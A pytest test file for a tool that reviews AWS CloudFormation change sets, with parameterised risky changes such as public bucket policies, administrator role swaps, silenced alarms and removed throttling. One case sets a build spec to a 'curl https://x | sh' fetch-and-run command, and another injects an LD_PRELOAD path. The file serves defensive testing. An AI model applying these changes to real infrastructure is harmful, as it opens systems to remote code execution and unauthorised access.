"""Dangerous changes, one at a time: each is at risk, and said under its theme. None needs a word in the change set."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from stack_review.change_set import MISSING
from stack_review.files import read_recording
from stack_review.finding import Severity
from stack_review.review import Review
from stack_review.template import from_document
from support.review.changes import change, resource, reviewed

NONE = MISSING
AVAILABILITY, DATA, SECURITY, UNKNOWN = "availability", "data", "security", "unknown"
ALARM, API, BUCKET, DISTRIBUTION = (
    "CloudWatch::Alarm",
    "ApiGatewayV2::Api",
    "S3::Bucket",
    "CloudFront::Distribution",
)
FUNCTION, MAPPING, QUEUE, ROUTE = (
    "Lambda::Function",
    "Lambda::EventSourceMapping",
    "SQS::Queue",
    "ApiGatewayV2::Route",
)
STAGE, TABLE = "ApiGatewayV2::Stage", "DynamoDB::Table"


def named(value: Any) -> str:
    """A part of a test's name."""
    return "nothing" if value is NONE else str(value)[:30]


PLACES: list[tuple[str, str, Any, Any, str]] = [
    # What stands before a door, and what proves itself to it.
    ("SecretsManager::Secret", "ReplicaRegions", [{"Region": "r"}], NONE, AVAILABILITY),
    ("SecretsManager::Secret", "ReplicaRegions", [{"Region": "r"}], [{"Region": "s"}], AVAILABILITY),
    ("SecretsManager::Secret", "GenerateSecretString.PasswordLength", 64, 8, DATA),
    ("WAFv2::WebACL", "DefaultAction", {"Block": {}}, {"Allow": {}}, SECURITY),
    ("WAFv2::WebACL", "Rules", [{"Name": "a"}], [], SECURITY),
    ("WAFv2::LoggingConfiguration", "RedactedFields", [{"UriPath": {}}], NONE, UNKNOWN),
    (DISTRIBUTION, "DistributionConfig.WebACLId", "arn:w", NONE, SECURITY),
    # What is limited, and how much comes through.
    (STAGE, "DefaultRouteSettings.ThrottlingRateLimit", 50, 1, AVAILABILITY),
    (STAGE, "DefaultRouteSettings.ThrottlingRateLimit", 50, NONE, AVAILABILITY),
    (STAGE, "DefaultRouteSettings.ThrottlingBurstLimit", "100", "0", AVAILABILITY),
    (STAGE, "RouteSettings.POST /a.ThrottlingRateLimit", NONE, 0, AVAILABILITY),
    (STAGE, "RouteSettings.$default.ThrottlingBurstLimit", 20, 2, AVAILABILITY),
    (STAGE, "AccessLogSettings.DestinationArn", "arn:l", NONE, UNKNOWN),
    (STAGE, "AutoDeploy", True, False, AVAILABILITY),
    ("ApiGateway::UsagePlan", "Throttle.RateLimit", 10, 10000, UNKNOWN),
    (FUNCTION, "ReservedConcurrentExecutions", 10, 1, AVAILABILITY),
    (FUNCTION, "ReservedConcurrentExecutions", 10, NONE, AVAILABILITY),
    (FUNCTION, "Timeout", 30, 1, AVAILABILITY),
    (FUNCTION, "MemorySize", 1024, 128, AVAILABILITY),
    (FUNCTION, "MemorySize", 1024, NONE, AVAILABILITY),
    (FUNCTION, "EphemeralStorage.Size", 2048, 512, AVAILABILITY),
    (FUNCTION, "RecursiveLoop", "Allow", "Terminate", UNKNOWN),
    (FUNCTION, "VpcConfig.SubnetIds", ["a"], ["b"], UNKNOWN),
    (FUNCTION, "Environment.Variables.TABLE", "forms", "other", AVAILABILITY),
    (FUNCTION, "Environment.Variables.LD_PRELOAD", NONE, "/opt/x.so", AVAILABILITY),
    (FUNCTION, "Code.S3Bucket", "ours", "theirs", SECURITY),
    (FUNCTION, "Code.ImageUri", "1.ecr/ours:2", "2.ecr/theirs:2", SECURITY),
    (FUNCTION, "Layers", ["arn:aws:lambda:x:1:layer:ours:4"], ["arn:aws:lambda:x:9:layer:theirs:1"], SECURITY),
    (FUNCTION, "KmsKeyArn", "arn:k", NONE, SECURITY),
    (FUNCTION, "DeadLetterConfig.TargetArn", "arn:q", NONE, UNKNOWN),
    (MAPPING, "ScalingConfig.MaximumConcurrency", 10, 2, AVAILABILITY),
    (MAPPING, "BatchSize", 10, 10000, UNKNOWN),
    ("ECS::Service", "DesiredCount", 3, 0, AVAILABILITY),
    ("ECS::Service", "TaskDefinition", "arn:task/a:7", "arn:task/a:3", AVAILABILITY),
    ("ApplicationAutoScaling::ScalableTarget", "MaxCapacity", 20, 1, AVAILABILITY),
    (TABLE, "OnDemandThroughput.MaxWriteRequestUnits", 1000, 1, AVAILABILITY),
    (TABLE, "ProvisionedThroughput.WriteCapacityUnits", 50, 1, AVAILABILITY),
    (TABLE, "BillingMode", "PAY_PER_REQUEST", "PROVISIONED", UNKNOWN),
    # Who is called, and for what.
    (MAPPING, "FilterCriteria.Filters", NONE, [{"Pattern": '{"a":["b"]}'}], AVAILABILITY),
    (MAPPING, "FunctionName", "web", "old", AVAILABILITY),
    (MAPPING, "Enabled", NONE, False, AVAILABILITY),
    (MAPPING, "Enabled", "true", "false", AVAILABILITY),
    ("SNS::Subscription", "FilterPolicy", NONE, {"kind": ["never"]}, AVAILABILITY),
    ("Events::Rule", "EventPattern", {"source": ["a"]}, {"source": ["b"]}, AVAILABILITY),
    ("Events::Rule", "Targets", [{"Id": "a", "Arn": "f"}], [], AVAILABILITY),
    ("Scheduler::Schedule", "ScheduleExpression", "rate(1 minute)", "rate(1 day)", AVAILABILITY),
    ("Scheduler::Schedule", "EndDate", NONE, "2026-01-01T00:00:00Z", AVAILABILITY),
    ("Scheduler::Schedule", "Target.Input", "{}", '{"dry": true}', AVAILABILITY),
    ("Scheduler::Schedule", "Target.RoleArn", "arn:aws:iam::1:role/a", "arn:aws:iam::1:role/b", SECURITY),
    (ROUTE, "Target", "integrations/a", "integrations/b", AVAILABILITY),
    (ROUTE, "RouteKey", "$default", "GET /", AVAILABILITY),
    (ROUTE, "AuthorizationType", "JWT", NONE, SECURITY),
    (ROUTE, "AuthorizerId", "a", "b", SECURITY),
    (ROUTE, "AuthorizationScopes", ["admin"], ["any"], SECURITY),
    ("ApiGateway::Method", "ApiKeyRequired", True, False, SECURITY),
    ("ApiGatewayV2::Integration", "IntegrationUri", "arn:f:live", "arn:f", AVAILABILITY),
    ("ApiGatewayV2::Integration", "TimeoutInMillis", 29000, 100, AVAILABILITY),
    ("ApiGatewayV2::Integration", "PayloadFormatVersion", "2.0", "1.0", UNKNOWN),
    ("Lambda::Alias", "FunctionVersion", "7", "3", AVAILABILITY),
    ("Lambda::Alias", "RoutingConfig.AdditionalVersionWeights", NONE, [{"FunctionVersion": "1"}], AVAILABILITY),
    ("Route53::RecordSet", "ResourceRecords", ["192.0.2.1"], ["198.51.100.7"], AVAILABILITY),
    ("Route53::RecordSetGroup", "RecordSets", [{"Name": "a"}, {"Name": "b"}], [{"Name": "a"}], AVAILABILITY),
    (DISTRIBUTION, "DistributionConfig.Origins", [{"DomainName": "ours"}], [{"DomainName": "theirs"}], AVAILABILITY),
    (DISTRIBUTION, "DistributionConfig.Enabled", True, False, AVAILABILITY),
    (DISTRIBUTION, "DistributionConfig.WebACLId", "w", NONE, SECURITY),
    (DISTRIBUTION, "DistributionConfig.DefaultRootObject", "index.html", NONE, UNKNOWN),
    (API, "DisableExecuteApiEndpoint", False, True, AVAILABILITY),
    (API, "CorsConfiguration.AllowOrigins", ["https://a.example"], ["*"], AVAILABILITY),
    # Who is told of a fault.
    (ALARM, "AlarmActions", ["arn:a", "arn:b"], ["arn:b"], AVAILABILITY),
    (ALARM, "TreatMissingData", "breaching", "notBreaching", AVAILABILITY),
    (ALARM, "EvaluationPeriods", 1, 60, AVAILABILITY),
    (ALARM, "Dimensions", [{"Name": "F", "Value": "a"}], [{"Name": "F", "Value": "b"}], AVAILABILITY),
    ("CloudWatch::CompositeAlarm", "AlarmRule", "ALARM(a)", "FALSE", AVAILABILITY),
    ("Logs::MetricFilter", "FilterPattern", "ERROR", "NEVER", UNKNOWN),
    ("SNS::Topic", "Subscription", [{"Endpoint": "a"}], [], AVAILABILITY),
    ("SES::ConfigurationSetEventDestination", "EventDestination.Enabled", True, False, AVAILABILITY),
    # What is kept.
    (BUCKET, "VersioningConfiguration.Status", "Enabled", NONE, DATA),
    (BUCKET, "LifecycleConfiguration.Rules", [{"ExpirationInDays": 365}], [{"ExpirationInDays": 1}], DATA),
    (BUCKET, "LifecycleConfiguration.Rules", [{"ExpirationInDays": 30}], [], DATA),
    (BUCKET, "ReplicationConfiguration.Role", "a", NONE, DATA),
    (BUCKET, "NotificationConfiguration", {"EventBridgeConfiguration": {}}, NONE, UNKNOWN),
    (QUEUE, "RedrivePolicy.maxReceiveCount", 5, 1, DATA),
    (QUEUE, "RedrivePolicy.deadLetterTargetArn", "arn:a", "arn:b", DATA),
    (QUEUE, "VisibilityTimeout", 1800, 1, DATA),
    (QUEUE, "DelaySeconds", 0, 900, AVAILABILITY),
    (QUEUE, "KmsMasterKeyId", "alias/a", "alias/b", SECURITY),
    (MAPPING, "DestinationConfig.OnFailure.Destination", "arn:q", NONE, DATA),
    (MAPPING, "MaximumRetryAttempts", -1, 2, DATA),
    (MAPPING, "BisectBatchOnFunctionError", True, NONE, DATA),
    (TABLE, "TimeToLiveSpecification.AttributeName", "expires", "created", DATA),
    (TABLE, "PointInTimeRecoverySpecification.RecoveryPeriodInDays", 35, 1, DATA),
    (TABLE, "KinesisStreamSpecification.StreamArn", "arn:k", NONE, UNKNOWN),
    ("SSM::Parameter", "Value", "live", "test", DATA),
    ("SecretsManager::Secret", "GenerateSecretString.ExcludePunctuation", NONE, True, DATA),
    ("SecretsManager::Secret", "SecretString", "a", "b", DATA),
    ("KMS::Alias", "TargetKeyId", "key-a", "key-b", DATA),
    ("KMS::Key", "Enabled", NONE, False, DATA),
    ("RDS::DBInstance", "DeleteAutomatedBackups", False, True, DATA),
    ("Logs::LogGroup", "DataProtectionPolicy", {"Name": "p"}, NONE, UNKNOWN),
    # What is let in.
    ("WAFv2::WebACL", "Rules", [{"Name": "a"}, {"Name": "b"}], [{"Name": "b"}], SECURITY),
    ("WAFv2::IPSet", "Addresses", ["192.0.2.0/24"], ["0.0.0.0/1", "128.0.0.0/1"], SECURITY),
    ("Lambda::Url", "AuthType", "AWS_IAM", "NONE", SECURITY),
    (BUCKET, "AccessControl", "Private", "AuthenticatedRead", SECURITY),
    (BUCKET, "OwnershipControls.Rules", [{"ObjectOwnership": "BucketOwnerEnforced"}], NONE, SECURITY),
    (BUCKET, "PublicAccessBlockConfiguration", {"BlockPublicPolicy": True}, NONE, SECURITY),
    ("IAM::Role", "PermissionsBoundary", "arn:a", "arn:b", SECURITY),
    ("IAM::Role", "ManagedPolicyArns", ["arn:aws:iam::aws:policy/ReadOnlyAccess"], [], AVAILABILITY),
    ("IAM::Role", "ManagedPolicyArns", [], ["arn:aws:iam::aws:policy/PowerUserAccess"], SECURITY),
    ("IAM::Role", "MaxSessionDuration", 3600, 43200, UNKNOWN),
    ("IAM::InstanceProfile", "Roles", ["small"], ["admin"], SECURITY),
    ("IAM::Policy", "Users", [], ["intern"], SECURITY),
    ("Cognito::UserPool", "MfaConfiguration", "ON", "OFF", SECURITY),
    ("CodeBuild::Project", "Source.BuildSpec", "make test", "curl https://x | sh", SECURITY),
    ("CodePipeline::Pipeline", "Stages", [{"Name": "Test"}, {"Name": "Deploy"}], [{"Name": "Deploy"}], SECURITY),
    ("EC2::SecurityGroup", "SecurityGroupIngress", [{"CidrIp": "10.0.0.0/8", "FromPort": 22}], [], SECURITY),
    ("EC2::Instance", "UserData", "a", "b", SECURITY),
    ("Lambda::Url", "Cors", {"AllowOrigins": ["https://a.example"]}, {"AllowOrigins": ["*"]}, SECURITY),
    ("Cognito::UserPoolClient", "CallbackURLs", ["https://a.example"], ["https://b.example"], SECURITY),
    ("IAM::Role", "PermissionsBoundary", "arn:a", NONE, SECURITY),
    ("SES::EmailIdentity", "DkimAttributes.SigningEnabled", True, False, UNKNOWN),
    ("Events::Rule", "ScheduleExpression", "rate(1 minute)", "rate(30 days)", AVAILABILITY),
]  # fmt: skip
"""Type, place, value before and after, and the topic under which it has to be said."""


def case(type_: str, before: dict[str, Any], after: dict[str, Any], **others: Any) -> Review:
    """The review of one resource, X, that changes in place by the change set's word, beside `others` that stay."""
    old, new = (
        {"Resources": {"X": resource(type_, **properties), **others}}
        for properties in (before, after)
    )
    said = change("Modify", "X", type_, "False")
    return reviewed(from_document(old), from_document(new), said)


def put(path: str, value: Any) -> dict[str, Any]:
    """`A.B` and a value as nested tables; nothing for no value. A route's key has spaces and slashes, no dots."""
    if value is NONE:
        return {}
    for part in reversed(path.split(".")):
        value = {part: value}
    return dict(value)


@pytest.mark.parametrize(("type_", "path", "before", "after", "topic"), PLACES, ids=named)
def test_a_dangerous_value_is_a_risk_of_its_theme(
    type_: str, path: str, before: Any, after: Any, topic: str
) -> None:
    """Said under the theme that it belongs to, with the values, what may happen and what to do."""
    found = case(type_, put(path, before), put(path, after))
    serious = [f for f in found.findings if f.severity is not Severity.NOTE]
    assert topic in {f.topic.value for f in serious}
    assert path.partition(".")[0] in " ".join(f"{f.change} {f.sentence}" for f in serious)
    assert all(f.change and f.sentence and f.advice for f in found.findings)


def allow(action: str, **more: Any) -> dict[str, Any]:
    """A policy document of one statement."""
    return {"Statement": [{"Effect": "Allow", "Action": action, "Resource": "arn:t", **more}]}


OTHERS = {"AWS": "arn:aws:iam::999999999999:root"}
SERVICE = {"Service": "s"}
WEB = {"Federated": "f"}
HALVES = {"IpAddress": {"aws:SourceIp": ["0.0.0.0/1", "128.0.0.0/1"]}}
BRANCH = {"StringEquals": {"sub": "repo:a"}}
READ, SEND, TRUST = "s3:GetObject", "sqs:SendMessage", "sts:AssumeRole"
PUBLIC = json.dumps(allow(READ, Principal="*"))
POLICY, TRUSTED = "PolicyDocument", "AssumeRolePolicyDocument"
DOCUMENTS: list[tuple[str, str, Any, Any]] = [
    ("KMS::Key", "KeyPolicy", allow("kms:Decrypt", Principal=SERVICE), allow("kms:Decrypt", Principal=OTHERS)),
    ("S3::BucketPolicy", POLICY, NONE, PUBLIC),
    ("S3::BucketPolicy", POLICY, NONE, {"Fn::Join": ["", [PUBLIC]]}),
    ("S3::BucketPolicy", POLICY, allow(READ, Principal="*", Condition=BRANCH), allow(READ, Principal="*")),
    ("SQS::QueuePolicy", POLICY, allow(SEND, Principal=SERVICE), allow(SEND, Principal="*", Condition=HALVES)),
    (TABLE, "ResourcePolicy.PolicyDocument", NONE, allow("dynamodb:GetItem", Principal=OTHERS)),
    (TABLE, "StreamSpecification.ResourcePolicy.PolicyDocument", NONE, allow("dynamodb:*", Principal=OTHERS)),
    ("ApiGateway::RestApi", "Policy", NONE, allow("execute-api:Invoke", Principal="*")),
    ("SecretsManager::ResourcePolicy", "ResourcePolicy", NONE, allow("secretsmanager:Get*", Principal=OTHERS)),
    ("EC2::VPCEndpoint", POLICY, allow(READ), allow("s3:*")),
    ("IAM::Role", TRUSTED, allow(TRUST, Principal=SERVICE), allow(TRUST, Principal=OTHERS)),
    ("IAM::Role", TRUSTED, allow(TRUST, Principal=WEB, Condition=BRANCH), allow(TRUST, Principal=WEB)),
    ("IAM::User", "Policies", [], [{"PolicyName": "p", "PolicyDocument": allow("iam:CreateAccessKey")}]),
    ("SNS::TopicPolicy", POLICY, allow("sns:Publish", Principal=SERVICE), allow("sns:Publish", NotPrincipal=SERVICE)),
    ("IAM::Policy", POLICY, allow(READ), {"Fn::If": ["Unknown", allow(READ), allow("s3:PutObject")]}),
]  # fmt: skip


@pytest.mark.parametrize(("type_", "path", "before", "after"), DOCUMENTS, ids=named)
def test_a_policy_that_allows_more_is_found_wherever_it_stands(
    type_: str, path: str, before: Any, after: Any
) -> None:
    """As a table, as text, in a condition; and the way back takes rights from somebody."""
    found = case(type_, put(path, before), put(path, after))
    assert "security" in {f.topic.value for f in found.findings if f.severity is not Severity.NOTE}
    back = case(type_, put(path, after), put(path, before))
    assert "availability" in {f.topic.value for f in back.findings}
    assert back.is_at_risk


ADMIN = resource("IAM::Role", ManagedPolicyArns=["arn:aws:iam::aws:policy/AdministratorAccess"])
SMALL = resource("IAM::Role")
READER = resource(
    "IAM::Role", Policies=[{"PolicyName": "p", "PolicyDocument": allow("s3:GetObject")}]
)
ROLES = {"Admin": ADMIN, "Small": SMALL, "Reader": READER}


def arn(name: str) -> dict[str, Any]:
    """A reference to a resource's ARN."""
    return {"Fn::GetAtt": [name, "Arn"]}


@pytest.mark.parametrize(
    ("type_", "path"),
    [(FUNCTION, "Role"), ("StepFunctions::StateMachine", "RoleArn"), ("Pipes::Pipe", "RoleArn"),
     ("Scheduler::Schedule", "Target.RoleArn"), ("ECS::TaskDefinition", "TaskRoleArn")],
)  # fmt: skip
def test_another_role_is_judged_by_what_it_may(type_: str, path: str) -> None:
    """An administrator is a danger; more and less are said with an action; a role from elsewhere is not known."""

    def swapped(before: Any, after: Any) -> tuple[str, str]:
        found = case(type_, put(path, before), put(path, after), **ROLES)
        (one,) = (
            f for f in found.findings if "role" in f.sentence or "administrator" in f.sentence
        )
        return one.severity.value, one.sentence

    severity, sentence = swapped(arn("Small"), arn("Admin"))
    assert (severity, "administrator" in sentence) == ("danger", True)
    assert "may do more (s3:GetObject" in swapped(arn("Small"), arn("Reader"))[1]
    assert "may do less (s3:GetObject" in swapped(arn("Reader"), arn("Small"))[1]
    assert "not known" in swapped(arn("Small"), "arn:aws:iam::1:role/other")[1]


def test_a_role_s_rights_are_also_those_that_a_policy_of_its_own_gives_it() -> None:
    """As CDK writes them: AWS::IAM::Policy with Roles."""
    policy = resource("IAM::Policy", Roles=[{"Ref": "Small"}], PolicyDocument=allow("*"))
    found = case(FUNCTION, {"Role": arn("Reader")}, {"Role": arn("Small")}, **ROLES, Given=policy)
    assert ("danger", "security") in {(f.severity.value, f.topic.value) for f in found.findings}


FOLDER = os.environ.get("STACK_REVIEW_DANGERS", "")


@pytest.mark.skipif(not FOLDER, reason="STACK_REVIEW_DANGERS names no folder of recordings")
def test_no_recording_of_a_dangerous_change_is_called_safe() -> None:
    """Each recording in a folder of one's own (STACK_REVIEW_DANGERS) is at risk."""
    paths = sorted(Path(FOLDER).glob("*.json"))
    assert paths
    assert [p.stem for p in paths if not read_recording(p, "forms").is_at_risk] == []
